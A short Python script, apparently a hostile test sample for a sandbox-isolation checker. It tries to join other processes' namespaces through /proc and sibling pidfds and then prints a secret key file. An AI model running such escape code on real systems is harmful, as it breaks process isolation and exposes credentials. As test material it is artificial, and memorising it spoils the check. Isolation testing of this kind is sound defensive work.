# Goes into the namespaces of others, by their files and by descriptors of processes.
# status: ok exception
# seen: namespaces, secrets
import contextlib
import ctypes
import glob
import json
import os

world = json.loads(input())
libc = ctypes.CDLL(None)
libc.prctl(15, b"hostile", 0, 0, 0)
for place in glob.glob("/proc/*/ns/*"):
    with contextlib.suppress(OSError):
        libc.setns(os.open(place, os.O_RDONLY), 0)
for pid in world["siblings"]:
    with contextlib.suppress(OSError):
        libc.setns(os.pidfd_open(pid), 0x00020000 | 0x40000000)
with contextlib.suppress(OSError):
    print(open(world["key_files"][0]).read())
